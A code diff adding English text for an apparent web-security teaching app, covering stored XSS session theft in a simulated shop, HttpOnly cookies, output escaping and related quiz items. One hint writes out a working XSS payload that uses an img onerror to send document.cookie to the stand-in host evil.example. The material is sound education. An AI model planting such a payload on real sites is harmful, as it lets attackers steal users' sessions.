@@ -492,6 +492,57 @@ export const activitiesEn = {
           'Too long: 30 minutes without a request, and the login session itself expired. Shorter pauses keep it alive.',
       },
     },
+    'xss-steal-session': {
+      title: 'Steal Mina’s session',
+      goal: 'You are the visitor in Firefox. Write a review that sends Mina’s cookie to evil.example, let Mina open the reviews (her Chrome tab), then use her session from evil.example’s log to open her My page in Firefox.',
+      hints: {
+        '0': 'The review page writes your text into its HTML as it is. An image that fails to load runs its onerror attribute.',
+        '1': 'Try: <img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
+        '2': 'Then open Chrome’s tab and press Reviews. Back in Firefox, press “Use connect.sid in Firefox” on Mina’s line in evil.example’s log, then My page.',
+      },
+      solved:
+        'Mina’s browser ran your markup as part of the shop’s page, read her cookie and sent it away; with it, Firefox is Mina. No password, no server bug in the session code: one unescaped review and a cookie scripts could read.',
+      nudges: {
+        'own-cookie':
+          'That cookie came from your own browser (it also showed the page). Use the one evil.example received from Mina’s Chrome.',
+        'wait-for-mina':
+          'The trap is set. Now Mina has to open the review page: switch to her Chrome tab and press Reviews.',
+        'not-understood':
+          'Your review is on the page, but nothing in it sends document.cookie to an address. Use onerror on an image with a src, and fetch() to https://evil.example/.',
+      },
+    },
+    'xss-httponly-stops-theft': {
+      title: 'Stop the theft, keep the code',
+      goal: 'Without changing the shop’s code (leave the review page unescaped), make Mina open the reviews while logged in without her session cookie reaching evil.example.',
+      hints: {
+        '0': 'document.cookie cannot see a cookie marked HttpOnly. Which option sets it?',
+        '1': 'Under the guest book, turn on cookie.httpOnly. The option applies to cookies the server sets from then on.',
+        '2': 'Mina’s cookie was set before: log her in again in Chrome (mina / sesame), then open Reviews.',
+      },
+      solved:
+        'The script still ran and still called evil.example, but document.cookie no longer held connect.sid. HttpOnly protects the session cookie, not the page: the injected script could still act as Mina on it.',
+      nudges: {
+        'code-changed':
+          'Escaping changes the shop’s code (that is the next challenge). This time turn it off again and protect the cookie instead.',
+        'old-cookie':
+          'HttpOnly is on, but Mina still holds the cookie she got before: her session keeps it. Log her in again to get a new one.',
+        'logged-out': 'Mina is not logged in: log her in again, then open the reviews.',
+      },
+    },
+    'xss-escape-output': {
+      title: 'Stop the injection itself',
+      goal: 'Make the shop write reviews into its page as text, so that Mina sees the planted review as the characters that were typed and nothing in the page runs.',
+      hints: {
+        '0': 'The fault is where the shop writes the review into its HTML.',
+        '1': 'Under the guest book, turn on “Escape reviews on the page”, then open Reviews in Mina’s Chrome.',
+      },
+      solved:
+        'Escaped, the review’s < arrives as &lt;: the browser shows it and runs nothing. Escaping at output stops the injection for every visitor, logged in or not, whatever the cookie’s flags.',
+      nudges: {
+        'still-runs':
+          'HttpOnly keeps the cookie safe, but the review still runs on Mina’s page. Stop it where the shop writes the review.',
+      },
+    },
   },
   quiz: {
     'secure-eavesdropper': {
@@ -1166,6 +1217,58 @@ export const activitiesEn = {
         'Safari blocks all cookies and opens My page. This request claims to be Safari’s. Which line is wrong?',
       explain:
         'A browser that blocks cookies sends no Cookie header at all: there is nothing in its request the server could recognise.',
+    },
+    'xss-what-runs': {
+      prompt:
+        'The review page does not escape. Which review runs a script by itself when Mina opens the page?',
+      options: {
+        'img-onerror': '<img src=x onerror="…">',
+        bold: '<b>great mug</b>',
+        escaped: '&lt;script&gt;alert(1)&lt;/script&gt;',
+        onclick: '<a href="#" onclick="…">more</a>',
+      },
+      explain:
+        'The image fails to load, so onerror runs with no one acting. Bold is only markup, the escaped one is text, and onclick waits for a click.',
+    },
+    'xss-httponly-does': {
+      prompt:
+        'The session cookie is HttpOnly, and the unescaped review is still on the page. What happens when Mina opens it?',
+      options: {
+        'runs-without-cookie':
+          'The script runs, but document.cookie does not contain the session cookie',
+        'nothing-runs': 'Nothing runs: HttpOnly blocks scripts',
+        'still-steals': 'The session cookie is stolen as before',
+        refused: 'The server refuses the page',
+      },
+      explain:
+        'HttpOnly hides the cookie from scripts; it does not stop the script. The browser still sends the cookie to the shop with every request.',
+    },
+    'xss-escape-does': {
+      prompt: 'The shop escapes reviews on output. What does Mina see where the payload was?',
+      options: {
+        'shown-as-text': 'The payload’s characters, as text; nothing runs',
+        removed: 'Nothing: the review is deleted',
+        'runs-later': 'A broken image that runs its code later',
+        'cookie-hidden': 'The image, with the cookie hidden',
+      },
+      explain:
+        '< becomes &lt;, which the browser shows as < instead of starting a tag. The review is kept, as the visitor typed it.',
+    },
+    'xss-attack-order': {
+      prompt: 'Put stored XSS in order.',
+      options: {
+        plant: 'The attacker posts a review with markup in it',
+        'victim-opens': 'Mina opens the review page',
+        'browser-sends': 'Her browser runs it and sends document.cookie to evil.example',
+        'thief-uses': 'The thief puts the session cookie into their own browser and opens My page',
+      },
+      explain: 'The shop stores the markup once; every browser that shows the page runs it.',
+    },
+    'xss-evil-request': {
+      prompt:
+        'Mina’s browser sends her cookie to evil.example. Which line of that request is wrong?',
+      explain:
+        'The browser sends the shop’s cookies only to the shop. The cookie travels in the address (?c=…), because the script put it there.',
     },
   },
 };
